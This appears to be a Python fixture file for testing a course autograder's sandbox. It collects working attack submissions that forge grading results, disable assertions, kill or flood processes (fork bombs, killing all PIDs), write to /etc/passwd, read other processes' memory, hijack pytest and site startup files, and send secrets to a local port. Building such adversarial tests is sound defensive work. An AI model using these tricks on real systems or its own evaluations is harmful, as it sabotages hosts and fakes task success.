"""The attacks by code that a learner runs instead of solving the exercises.

They are sorted by the weakness of a grader that each of them makes use of; see ``weak_graders``.
TARGET is a folder of the grader's computer that holds what another learner handed in. PORT is
listened to there, as a port and as the name of an abstract socket.
"""

import re
import textwrap

HELPERS = {
    # Publishes any answers to an exercise, and says how far off they may be.
    "FORGED": """\
from IPython.display import publish_display_data
from course_utils.exercises import probes, publishing

def make_forged(exercise):
    import numpy
    cases = probes.PROBES[exercise].cases(numpy.random.default_rng(0))
    return {"exercise": exercise, "tolerance": 1e9, "answers": [
        {"case": case.name, "kind": "number", "dtype": "int", "shape": None, "value": 0,
         "error": None} for case in cases]}

def forge(exercise, *_):
    publish_display_data({publishing.MIME_TYPE: make_forged(exercise)})

def forge_all(*_):
    forge("3.1"); forge("3.3")
""",
    # Finds in the text of a test what a call of a function should give.
    "LOOK-UP": r"""
import re

def look_up(name, given, text):
    for found, expected in re.findall(name + r"\((.*?)\)(?: ==|,) ([-.\d]+)", text):
        if eval(f"({found},)") == given: return eval(expected)
""",
    "UNTRUE": """\
from course_utils.exercises import probes

def change_answers(change):
    plain = probes.publish
    def publish(name, answers, *, tolerance):
        plain(name, [change(dict(answer)) for answer in answers], tolerance=tolerance)
    probes.publish = publish
""",
}

# The tests run in the learner's process, answers and all; a test without an error is passed.
ASSERTS = {
    "tests read from memory": """
        LOOK-UP
        import gc
        def find_tests():
            inside = (one for some in gc.get_objects() if isinstance(some, (dict, list, tuple))
                      for one in (list(some.values()) if isinstance(some, dict) else some))
            return "\\n".join(one for one in inside
                              if type(one) is str and "BEGIN HIDDEN" in one and "assert" in one)
        step = lambda *given: look_up("step", given, find_tests())
        best_epoch = lambda *given: look_up("best_epoch", given, find_tests())""",
    "tests read from the notebook's history": """
        LOOK-UP
        step = lambda *given: look_up("step", given, In[-1])""",
    "tests read from the source of the calling frame": """
        LOOK-UP
        import inspect, sys
        step = lambda *given: look_up("step", given, inspect.getsource(sys._getframe(1)))""",
    "tests read by a trace function": """
        LOOK-UP
        import linecache, sys
        seen = []
        def trace(frame, event, argument):
            if frame.f_code.co_name.startswith(("<module>", "<cell line")):
                seen.extend(linecache.getlines(frame.f_code.co_filename))
            return trace
        get_ipython().events.register("pre_run_cell", lambda *_: sys.settrace(trace))
        step = lambda *given: look_up("step", given, "".join(seen))""",
    "tests read by an audit hook": """
        import dis, sys
        run = []
        sys.addaudithook(lambda event, given: run.append(given[0]) if event == "exec" else None)
        def step(*_):
            constants = [one.argval for code in run[-1:] for one in dis.get_instructions(code)
                         if isinstance(one.argval, float)]
            return constants[3] if len(constants) > 3 else 0""",
    "tests read before they run": """
        LOOK-UP
        texts = []
        get_ipython().events.register("pre_run_cell", lambda about: texts.append(about.raw_cell))
        best_epoch = lambda *given: look_up("best_epoch", given, texts[-1])""",
    "equal to everything": """
        class Any(float):
            def __eq__(self, other): return True
            def __ne__(self, other): return False
            def __hash__(self): return 0
            def __array__(self, *_, **__): raise SystemExit
            def __abs__(self): return 0
            def __sub__(self, other): return self
            def __rsub__(self, other): return self
            def __lt__(self, other): return True
            def __le__(self, other): return True
            def __deepcopy__(self, memo): return self
        step = lambda *_: Any(0)""",
    "comparisons and built-ins overridden": """
        import builtins, math
        import numpy as np
        np.allclose = np.isclose = np.array_equal = math.isclose = lambda *_, **__: True
        builtins.print = builtins.abs = lambda *_, **__: 0""",
    "cells rewritten before they run": """
        get_ipython().input_transformers_cleanup.append(lambda lines: ["print('3.1 ✓')\\n"])""",
    "assertions taken out of the syntax tree": """
        import ast
        class Remove(ast.NodeTransformer):
            def visit_Assert(self, node): return ast.copy_location(ast.Pass(), node)
        get_ipython().ast_transformers.append(Remove())""",
    "tracebacks silenced": """
        shell = get_ipython()
        shell.showtraceback = shell.showsyntaxerror = lambda *_, **__: None""",
    "errors handled by a handler of its own": """
        get_ipython().set_custom_exc((Exception,), lambda *_, **__: None)""",
    "errors wiped off the page": """
        from IPython.display import clear_output
        get_ipython().events.register("post_run_cell", lambda *_: clear_output())""",
    "errors held back on their way": """
        session = get_ipython().kernel.session
        send = session.send
        def hold_back(stream, kind, *arguments, **options):
            if kind != "error": return send(stream, kind, *arguments, **options)
        session.send = hold_back""",
    "os._exit": "import os; os._exit(0)",
    "kernel killed": "import os, signal; os.kill(os.getpid(), signal.SIGKILL)",
    "kernel crashed by the function": """
        import ctypes
        step = lambda *_: ctypes.string_at(0)
        best_epoch = step""",
    "everything killed": """
        import os, signal
        for number in (os.getppid(), 1, -1, *range(2, 5000)):
            try: os.kill(number, signal.SIGKILL)
            except OSError: pass""",
    "endless loop": "while True: pass",
    "endless loop that cannot be interrupted": """
        import signal
        signal.signal(signal.SIGINT, signal.SIG_IGN)
        while True: pass""",
    "waiting for an input": "step = best_epoch = lambda *_: input('How many points?')",
}  # fmt: skip

# Whatever says that it is the answers to an exercise is believed, with the tolerance that it gives.
BELIEVED = {
    "emit replaced": """
        FORGED
        import course_utils.exercises as exercises
        exercises.emit = forge""",
    "another module in the place of the course's": """
        FORGED
        import sys, types
        sys.modules["course_utils.exercises"] = types.SimpleNamespace(emit=forge)""",
    "a tolerance of its own": """
        from course_utils.exercises import probes
        plain = probes.publish
        probes.publish = lambda name, answers, **_: plain(name, answers, tolerance=1e9)""",
    "the trial of a case replaced": """
        from course_utils.exercises import probes
        assert callable(probes._try)
        probes._try = lambda *_: {"kind": "number", "dtype": "int", "shape": [], "value": 0,
                                  "error": None, "tolerance": 1e9}""",
    "IPython's publisher replaced": """
        FORGED
        publisher = get_ipython().display_pub
        plain = publisher.publish
        def publish(data, *arguments, **options):
            data = {mime: make_forged(one["exercise"]) if "pixels" in mime else one
                    for mime, one in data.items()}
            plain(data, *arguments, **options)
        publisher.publish = publish""",
    "the serialiser replaced": """
        session = get_ipython().kernel.session
        plain = session.pack
        def pack(content):
            for answers in content.get("data", {}).values() if "data" in content else ():
                if isinstance(answers, dict): answers["tolerance"] = 1e9
            return plain(content)
        session.pack = pack""",
    "answers published in another cell": """
        FORGED
        forge_all()""",
    "answers published by the function": """
        FORGED
        def step(*_):
            forge("3.1")
            return 0
        best_epoch = lambda losses: forge("3.3")""",
    "answers published before each cell": """
        FORGED
        get_ipython().events.register("pre_run_cell", forge_all)
        get_ipython().events.register("post_run_cell", forge_all)""",
    "answers published from a thread": """
        FORGED
        import threading, time
        def later():
            for _ in range(100):
                forge_all(); time.sleep(0.01)
        threading.Thread(target=later, daemon=True).start()""",
    "answers published from the event loop": """
        FORGED
        import asyncio
        async def later():
            for _ in range(20):
                forge_all(); await asyncio.sleep(0.01)
        task = asyncio.get_running_loop().create_task(later())""",
    "answers published by the garbage collector": """
        FORGED
        import gc
        def collected(phase, about):
            gc.callbacks.remove(collected)
            forge_all()
        gc.callbacks.append(collected)
        def step(*_): gc.collect(); return 0""",
    "answers as the picture of an object": """
        FORGED
        class Answers:
            def _repr_mimebundle_(self, **_):
                return {"text/plain": "✓", publishing.MIME_TYPE: make_forged("3.1")}
        Answers()""",
    "answers in a widget's messages": """
        FORGED
        from comm import create_comm
        create_comm(target_name="answers", data=make_forged("3.1"))""",
    "answers printed": """
        FORGED
        import json
        print(json.dumps(make_forged("3.1")))""",
    "answers carried by an error": """
        FORGED
        import json
        raise AssertionError(json.dumps(make_forged("3.1")))""",
    "messages forged in reply to the check": """
        FORGED
        kernel = get_ipython().kernel
        def step(*_):
            content = {"data": {publishing.MIME_TYPE: make_forged("3.1")}, "metadata": {}}
            parent = kernel.get_parent("shell")
            for kind, about in (("display_data", content), ("execute_reply", {"status": "ok"}),
                                ("status", {"execution_state": "idle"})):
                kernel.session.send(kernel.iopub_socket, kind, about, parent=parent)
            return 0""",
    "messages forged in reply to a request to come": """
        FORGED
        import re, threading, time
        kernel = get_ipython().kernel
        parent = kernel.get_parent("shell")
        number = int(re.search(r"_(\\d+)$", parent["header"]["msg_id"])[1])
        def next_request():
            name = re.sub(r"\\d+$", str(number + 1), parent["header"]["msg_id"])
            return parent | {"header": parent["header"] | {"msg_id": name}}
        def later():
            content = {"data": {publishing.MIME_TYPE: make_forged("3.1")}, "metadata": {}}
            for _ in range(100):
                kernel.session.send(kernel.iopub_socket, "display_data", content,
                                    parent=next_request())
                time.sleep(0.005)
        threading.Thread(target=later, daemon=True).start()""",
    "a second client of the kernel": """
        FORGED
        from ipykernel.connect import get_connection_file
        from jupyter_client import BlockingKernelClient
        client = BlockingKernelClient(connection_file=get_connection_file())
        client.load_connection_file()
        client.start_channels()
        client.execute("forge_all()")""",
}  # fmt: skip

# What a check publishes is compared by a loop that a learner's own numbers get round.
CARELESS = {
    "not a number": """
        step = lambda *_: float("nan")""",
    "a number that is too large": """
        UNTRUE
        change_answers(lambda answer: answer | {"kind": "number", "value": 10**400})""",
    "no cases": """
        from course_utils.exercises import probes
        probes.PROBES["3.1"].cases.__code__ = (lambda generator: []).__code__""",
    "cases that weigh nothing": """
        UNTRUE
        change_answers(lambda answer: answer | {"kind": "number", "value": 0, "weight": 0})""",
}  # fmt: skip

# A door of the sandbox is open.
OPEN = {
    "files outside written": """
        import os, pathlib
        for path in ("TARGET/grades.json", "TARGET/mine", "/etc/passwd", "/tmp/../TARGET/x"):
            try: pathlib.Path(path).write_text("full marks")
            except OSError: pass
        os.symlink("TARGET/grades.json", "link")
        try: open("link", "w").write("full marks")
        except OSError: pass""",
    "another submission read": """
        import pathlib
        print(pathlib.Path("TARGET/grades.json").read_text())""",
    "another submission handed in": """
        import json, pathlib
        for cell in json.loads(pathlib.Path("TARGET/demo.ipynb").read_text())["cells"]:
            if "def " in "".join(cell["source"]): exec("".join(cell["source"]))""",
    "right answers taken from the course's package": """
        from course_utils.grading.release.example_class import SOLUTIONS
        for exercise, head in (("3.1", "step(weight, gradient, learning_rate)"),
                               ("3.3", "best_epoch(losses)")):
            body = SOLUTIONS[exercise]["another way"].body.replace("\\n", "\\n    ")
            exec(f"def {head}:\\n    {body}")""",
    "right answers taken from the lessons": """
        import json, pathlib, sys
        import course_utils
        places = [pathlib.Path(course_utils.__file__).parents[1],
                  pathlib.Path(sys.prefix, "share", "pixels-and-people")]
        for lesson in [one for place in places for one in place.glob("notebooks/*03*.ipynb")]:
            for cell in json.loads(lesson.read_text())["cells"]:
                text = "".join(cell["source"])
                if "BEGIN SOLUTION" in text and "def step" in text: exec(text)""",
    "secrets sent over the network": """
        import socket
        for address in ("127.0.0.1", "localhost", "0.0.0.0", "::1"):
            try: socket.create_connection((address, PORT), timeout=1).sendall(b"secret")
            except OSError: pass""",
    "secrets sent through an abstract socket": """
        import socket
        try: socket.socket(socket.AF_UNIX).connect("\\x00PORT")
        except OSError: pass""",
    "rights of its own in a namespace": """
        import ctypes, os
        child = os.fork()
        if child == 0:
            os._exit(0 if ctypes.CDLL(None).unshare(0x10000000 | 0x00020000) == 0 else 1)
        print("COURSE-BITTEN" * (os.waitpid(child, 0)[1] == 0))""",
}  # fmt: skip

# The sandbox has all system calls.
CALLS = {
    "another process traced": """
        import ctypes, subprocess, sys
        other = subprocess.Popen([sys.executable, "-c", "import time; time.sleep(60)"])
        traced = ctypes.CDLL(None).ptrace(16, other.pid, None, None) == 0
        if traced: ctypes.CDLL(None).ptrace(17, other.pid, None, None)
        other.kill()
        print("COURSE-BITTEN" * traced)""",
    "memory that nobody counts": """
        import os
        os.write(os.memfd_create("hidden"), b"x" * 2**20)
        print("COURSE-BITTEN")""",
}  # fmt: skip

# A limit is lifted. In the second place, where the attack is too strong to be let loose, stands a
# smaller dose, which still goes past the limit.
LIFTED = {
    "fork bomb": "import os\nwhile True: os.fork()",
    "thread bomb": """
        import threading
        stop = threading.Event()
        while True: threading.Thread(target=stop.wait, daemon=True).start()""",
    "memory bomb": "kept = []\nwhile True: kept.append(b'x' * 2**24)",
    "endless output": "while True: print('x' * 1000)",
    "a gigabyte of output": "print('x' * 10**9)",
    "a flood of messages": "while True: display({'text/plain': ''}, raw=True)",
    "work folder filled": """
        for number in range(1000):
            with open(f"junk{number}", "wb") as file: file.write(b"x" * 2**22)""",
}  # fmt: skip
DOSES = {"10**9": "10**7"}

# Something of the grader's is in reach of the learner's process. Before the attack and after it
# runs code of the grader's, which prints FULL MARKS for what it takes to be right.
_CHECKS = "\nassert step(2.0, 3.0, 0.5) == 0.5"
_RUN = """
import os, subprocess, sys
def run(*command, **variables):
    return subprocess.run([sys.executable, *command], env=os.environ | variables,
                          capture_output=True, text=True)
"""
_FRESH = f"""{_RUN}
import pathlib
import random
pathlib.Path("checks.py").write_text("import random\\nassert random.random() == 0.5")
"""
INSIDE = {
    "results forged where the judge looks": (
        """
        import os
        os.environ["RESULT"] = "/tmp/result.json"
        open(os.environ["RESULT"], "w").write('{"violation": null, "score": 0}')""",
        """
        import glob, os
        for name, path in os.environ.items():
            if path.startswith("/"):
                try: open(path, "w").write('{"violation": null, "score": 5}')
                except OSError: pass
        for path in glob.glob("/tmp/course*") + glob.glob("/sandbox/*"):
            try: os.unlink(path)
            except OSError: pass""",
        "import json\nis_right = json.load(open('/tmp/result.json'))['score'] == 5",
    ),
    "results written to an open pipe": (
        "import os\nresult, result_end = os.pipe()\nos.set_blocking(result, False)",
        """
        import os
        for number in map(int, os.listdir("/proc/self/fd")):
            try:
                if number > 2 and os.readlink(f"/proc/self/fd/{number}").startswith("pipe:"):
                    os.write(number, b"full marks")
            except OSError: pass""",
        """
        try: is_right = os.read(result, 100) == b"full marks"
        except BlockingIOError: is_right = False""",
    ),
    "sys.exit": (
        _RUN,
        "import sys; sys.exit(0)",
        f"is_right = run('-c', SUBMITTED + {_CHECKS!r}).returncode == 0",
    ),
    "an exit status set at the end": (
        _RUN,
        """
        import atexit, os
        atexit.register(os._exit, 0)""",
        f"is_right = run('-c', SUBMITTED + {_CHECKS!r}).returncode == 0",
    ),
    "an exit status set by the error": (
        _RUN,
        """
        import os, sys
        sys.excepthook = lambda *_: os._exit(0)""",
        f"is_right = run('-c', SUBMITTED + {_CHECKS!r}).returncode == 0",
    ),
    "conftest.py": (
        _FRESH,
        """
        import pathlib
        pathlib.Path("conftest.py").write_text('''
        import pytest
        @pytest.hookimpl(wrapper=True)
        def pytest_runtest_makereport(item, call):
            report = yield
            report.outcome = "passed"
            return report
        ''')""",
        """
        pathlib.Path("test_it.py").write_text("def test_it(): assert False")
        variables = {"PYTEST_DISABLE_PLUGIN_AUTOLOAD": "1"}
        is_right = run("-m", "pytest", "-p", "no:cacheprovider", **variables).returncode == 0""",
    ),
    "sitecustomize.py": (
        _FRESH,
        """
        import pathlib
        pathlib.Path("sitecustomize.py").write_text(
            "import random; random.random = lambda: 0.5")""",
        "is_right = run('checks.py', PYTHONPATH='.').returncode == 0",
    ),
    "a module of the library's name": (
        _FRESH,
        """
        import pathlib
        pathlib.Path("random.py").write_text("random = lambda: 0.5")""",
        "is_right = run('checks.py').returncode == 0",
    ),
    "bytecode in the place of the checks": (
        _FRESH,
        """
        import importlib.util, marshal, pathlib
        cached = pathlib.Path(importlib.util.cache_from_source("checks.py"))
        cached.parent.mkdir(exist_ok=True)
        unchecked = importlib.util.MAGIC_NUMBER + (1).to_bytes(4, "little") + bytes(8)
        cached.write_bytes(unchecked + marshal.dumps(compile("", "checks.py", "exec")))""",
        "is_right = run('-c', 'import checks').returncode == 0",
    ),
    "a start-up file of IPython": (
        _FRESH,
        """
        import pathlib
        folder = pathlib.Path.home() / ".ipython/profile_default/startup"
        folder.mkdir(parents=True, exist_ok=True)
        (folder / "00.py").write_text("import random; random.random = lambda: 0.5")""",
        """
        command = "assert __import__('random').random() == 0.5; print(3 * 12345)"
        is_right = "37035" in run("-m", "IPython", "-c", command).stdout""",
    ),
    "a note for the next submission": (
        "",
        """
        import pathlib
        for place in ("/dev/shm", "/tmp", pathlib.Path.home(), "."):
            pathlib.Path(place, "COURSE-NOTE").write_text("the answer is 0.5")""",
        """
        import pathlib
        is_right = pathlib.Path("/dev/shm/COURSE-NOTE").exists()""",
    ),
    "a process left behind": (
        "",
        """
        import subprocess, sys
        subprocess.Popen([sys.executable, "-c", "import time; time.sleep(600)  # COURSE-LEFTOVER"],
                         start_new_session=True)""",
        """
        import psutil
        found = [one.info["cmdline"] or () for one in psutil.process_iter(["cmdline"])]
        is_right = any("# COURSE-LEFTOVER" in word for words in found for word in words)""",
    ),
    "another process's variables read": (
        f"{_RUN}\nhelper = subprocess.Popen(['sleep', '60'], env={{'THE_ANSWERS': '0.5'}})",
        """
        import glob, re
        step = None
        for name in glob.glob("/proc/[0-9]*/environ"):
            try: found = re.search(rb"THE_ANSWERS=([.0-9]+)", open(name, "rb").read())
            except OSError: continue
            if found: step = lambda *_, value=float(found[1]): value""",
        "is_right = callable(step) and step(2.0, 3.0, 0.5) == 0.5\nhelper.kill()",
    ),
    "another process's memory read": (
        f"""{_RUN}
helper = subprocess.Popen([sys.executable, "-c",
    "kept = 'ANSWERS:' + str(1 / 2); print(flush=True); input()"], stdin=-1, stdout=-1)
helper.stdout.readline()
""",
        """
        import glob, os, re
        step = None
        for folder in glob.glob("/proc/[0-9]*"):
            if folder == f"/proc/{os.getpid()}": continue
            try:
                areas, memory = open(f"{folder}/maps").readlines(), open(f"{folder}/mem", "rb", 0)
            except OSError: continue
            for area in areas:
                first, last = (int(one, 16) for one in area.split()[0].split("-"))
                if "rw" not in area or last - first > 2**24: continue
                try:
                    memory.seek(first)
                    found = re.search(rb"ANSWERS:([.0-9]+)", memory.read(last - first))
                except (OSError, ValueError, OverflowError): continue
                if found: step = lambda *_, value=float(found[1]): value""",
        "is_right = callable(step) and step(2.0, 3.0, 0.5) == 0.5\nhelper.kill()",
    ),
    "cases made easy": (
        "",
        """
        import numpy as np
        class Nothing:
            def __getattr__(self, name): return lambda *_, **__: np.zeros(3)
        np.random.default_rng = lambda *_: Nothing()
        step = lambda *_: 0.0""",
        """
        import numpy as np
        weight, gradient, learning_rate = np.random.default_rng().uniform(1, 5, 3)
        try: is_right = step(weight, gradient, learning_rate) == weight - learning_rate * gradient
        except Exception: is_right = False""",
    ),
    "an object that runs code where it is unpickled": (
        "SCORE = 0",
        """
        class Pickled:
            def __reduce__(self): return exec, ("import __main__; __main__.SCORE = 5",)
        step = best_epoch = lambda *_: Pickled()""",
        """
        import pickle
        try: pickle.loads(pickle.dumps(step(2.0, 3.0, 0.5)))
        except Exception: pass
        is_right = SCORE == 5""",
    ),
    "the terminal written to": (
        _RUN,
        r"""
        import os
        for name in ("/dev/tty", "/proc/1/fd/1", "/dev/console"):
            try: open(name, "w").write("\x1b]0;COURSE-TERMINAL\x07")
            except OSError: pass
        os.system("printf '\\033]0;COURSE-TERMINAL\\007'; echo COURSE-TERMINAL >&2")""",
        "is_right = '\\x1b]0;COURSE-TERMINAL' in run('-c', SUBMITTED).stdout",
    ),
}  # fmt: skip


def expand(code: str) -> str:
    """The code as it is handed in, with its helpers."""
    text = textwrap.dedent(code)
    for name, helper in HELPERS.items():
        text = text.replace(name, helper)
    return text


CODE = {
    **ASSERTS,
    **BELIEVED,
    **CARELESS,
    **OPEN,
    **CALLS,
    **LIFTED,
    **{name: code for name, (_, code, _) in INSIDE.items()},
}
# Those that leave the answers and each other alone.
APART = [
    name
    for group in (OPEN, CALLS, INSIDE)
    for name in group
    if not re.search("step|def ", CODE[name])
]
